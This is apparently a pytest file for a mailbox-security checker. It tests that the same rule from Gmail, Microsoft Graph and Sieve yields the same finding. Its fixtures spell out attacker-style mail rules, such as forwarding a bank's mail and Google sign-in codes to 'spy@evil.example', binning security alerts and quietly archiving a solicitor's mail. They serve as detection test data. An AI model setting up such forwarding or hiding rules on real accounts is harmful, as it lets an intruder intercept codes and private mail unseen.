"""The one judgement, on a table of the same rules from Gmail, Graph and Sieve."""

from __future__ import annotations

import pytest

from checks.mail.judge.mailbox import judge_mail
from checks.mail.judge.rules import judge_rules
from checks.mail.judge.settings import judge_settings
from checks.mail.owner import Owner, normal_address
from checks.mail.records import (
    AutoForwarding,
    Disposition,
    FolderRole,
    ForwardingAddress,
    ForwardingState,
    MailAccess,
    MailboxSettings,
)
from checks.mail.sources.gmail import filter_rule
from checks.mail.sources.graph import message_rule
from checks.mail.sources.sieve_script import read_script
from cybercheck.advice import all_advice
from cybercheck.pipeline.model import Severity

ARCHIVE = "AAMkARCHIVE="

# The same rule, as each provider holds it: (Gmail filter, Graph messageRule, Sieve script).
TABLE = {
    "forward a bank's mail": (
        {"id": "f1", "criteria": {"from": "bank.example"}, "action": {"forward": "spy@evil.example"}},
        {
            "displayName": "x",
            "isEnabled": True,
            "conditions": {"senderContains": ["bank.example"]},
            "actions": {"forwardTo": [{"emailAddress": {"address": "spy@evil.example"}}]},
        },
        'if address :contains "from" "bank.example" { redirect "spy@evil.example"; }',
        [("mail.rule.forwards-external", Severity.HIGH, "A rule forwards mail to spy@evil.example")],
    ),
    "bin security alerts": (
        {"id": "f2", "criteria": {"query": "security alert"}, "action": {"addLabelIds": ["TRASH"]}},
        {
            "displayName": "y",
            "isEnabled": True,
            "conditions": {"subjectContains": ["security alert"]},
            "actions": {"delete": True},
        },
        'require "fileinto";\nif header :contains "subject" "security alert" { fileinto "Trash"; }',
        [("mail.rule.hides-security", Severity.URGENT, "A rule hides security mail")],
    ),
    "read and archive a solicitor's mail": (
        {
            "id": "f3",
            "criteria": {"from": "office@solicitor.example"},
            "action": {"removeLabelIds": ["INBOX", "UNREAD"]},
        },
        {
            "displayName": "z",
            "isEnabled": True,
            "conditions": {"fromAddresses": [{"emailAddress": {"address": "office@solicitor.example"}}]},
            "actions": {"moveToFolder": ARCHIVE, "markAsRead": True},
        },
        'if address :is "from" "office@solicitor.example" { fileinto "Archive"; addflag "\\\\Seen"; }',
        [("mail.rule.hides-sender", Severity.MEDIUM, "A rule hides mail from office@solicitor.example")],
    ),
    "forward sign-in codes": (
        {
            "id": "f4",
            "criteria": {"from": "no-reply@accounts.google.com"},
            "action": {"forward": "spy@evil.example"},
        },
        {
            "displayName": "w",
            "isEnabled": True,
            "conditions": {"senderContains": ["no-reply@accounts.google.com"]},
            "actions": {"forwardTo": [{"emailAddress": {"address": "spy@evil.example"}}]},
        },
        'require "copy";\nif header :contains "from" "no-reply@accounts.google.com" { redirect :copy "spy@evil.example"; }',
        [
            (
                "mail.rule.forwards-external",
                Severity.URGENT,
                "A rule forwards security mail to spy@evil.example",
            )
        ],
    ),
    "an ordinary newsletter label": (
        {"id": "f5", "criteria": {"from": "news@shop.example"}, "action": {"addLabelIds": ["Label_7"]}},
        {
            "displayName": "v",
            "isEnabled": True,
            "conditions": {"senderContains": ["news@shop.example"]},
            "actions": {"moveToFolder": "AAMkSHOP="},
        },
        'if address :is "from" "news@shop.example" { fileinto "Shopping"; }',
        [],
    ),
}


def _findings(rules: object) -> list[tuple[str, Severity, str]]:
    return sorted(
        (f.code, f.severity, f.subject) for f in judge_rules(rules, owner=Owner.of(["sam@gmail.com"]))
    )  # type: ignore[arg-type]


@pytest.mark.parametrize("case", sorted(TABLE))
def test_the_same_rule_from_three_providers_gives_the_same_finding(case: str) -> None:
    gmail, graph, sieve, expected = TABLE[case]
    folders = {ARCHIVE: ("Archive", FolderRole.ARCHIVE), "AAMkSHOP=": ("Shopping", FolderRole.OTHER)}
    from_gmail = _findings([filter_rule(gmail, source="gmail", index=0)])
    from_graph = _findings([message_rule(graph, folders)])
    from_sieve = _findings(list(read_script(sieve, script="main", source="sieve").rules))
    assert from_gmail == from_graph == from_sieve == sorted(expected)


def test_every_finding_keeps_the_rule_as_the_provider_holds_it() -> None:
    gmail = TABLE["forward a bank's mail"][0]
    finding = next(judge_rules([filter_rule(gmail, source="Gmail API", index=0)], owner=Owner()))
    fields = finding.evidence[0].fields
    assert '"forward": "spy@evil.example"' in fields["as the provider holds it"]
    assert fields["applies to"] == 'from contains "bank.example"'


def test_forwarding_to_the_persons_own_address_is_not_a_finding() -> None:
    gmail = TABLE["forward a bank's mail"][0]
    rule = filter_rule(gmail, source="gmail", index=0)
    assert not list(judge_rules([rule], owner=Owner.of(["Spy@Evil.example"])))
    assert not list(judge_rules([rule], owner=Owner.of(["@evil.example"])))


def test_disabled_rules_are_not_judged() -> None:
    graph = dict(TABLE["forward a bank's mail"][1], isEnabled=False)
    assert not list(judge_rules([message_rule(graph, {})], owner=Owner()))


def test_a_rule_with_no_conditions_that_deletes_hides_security_mail() -> None:
    rules = list(read_script("discard;", script="main", source="sieve").rules)
    assert _findings(rules) == [("mail.rule.hides-all-mail", Severity.URGENT, "A rule hides all mail")]


def test_gmail_addresses_compare_without_dots_and_tags() -> None:
    assert normal_address("Sam.Smith+news@googlemail.com") == "samsmith@gmail.com"
    assert "sam.smith@gmail.com" in Owner.of(["samsmith@gmail.com"])
    assert "someone@else.example" not in Owner.of(["samsmith@gmail.com"])


def test_settings_forwarding_pending_delegates_and_access() -> None:
    settings = MailboxSettings(
        auto_forwarding=AutoForwarding(True, "spy@evil.example", Disposition.TRASH, "api", "{}"),
        forwarding_addresses=(
            ForwardingAddress("spy@evil.example", ForwardingState.ACCEPTED, "api"),
            ForwardingAddress("new@evil.example", ForwardingState.PENDING, "api"),
            ForwardingAddress("ready@evil.example", ForwardingState.ACCEPTED, "api"),
        ),
        access=(MailAccess("POP", True, "allMail", "api"),),
    )
    codes = sorted(f.code for f in judge_settings(settings, owner=Owner()))
    assert codes == [
        "mail.access.sync-on",
        "mail.forwarding.address-ready",
        "mail.forwarding.external",
        "mail.forwarding.hides-original",
        "mail.forwarding.pending",
    ]
    assert "mail.access.sync-on" not in {
        f.code for f in judge_settings(settings, owner=Owner(), uses_mail_apps=True)
    }


def test_every_code_the_judgement_can_give_has_advice() -> None:
    advice = all_advice()
    codes = {
        f.code
        for case in TABLE.values()
        for f in judge_rules(list(read_script(case[2], script="s", source="s").rules), owner=Owner())
    }
    codes |= {c for c in advice if c.startswith("mail.")}
    missing = {c for c in codes if c not in advice}
    assert not missing
    assert len([c for c in advice if c.startswith("mail.")]) >= 19


def test_judge_mail_joins_rules_and_settings() -> None:
    rule = filter_rule(TABLE["forward a bank's mail"][0], source="gmail", index=0)
    settings = MailboxSettings(
        forwarding_addresses=(ForwardingAddress("spy@evil.example", ForwardingState.ACCEPTED, "api"),)
    )
    codes = [f.code for f in judge_mail([rule], settings, owner=Owner())]
    assert codes == ["mail.rule.forwards-external"]  # the address is in use, so not also "ready"
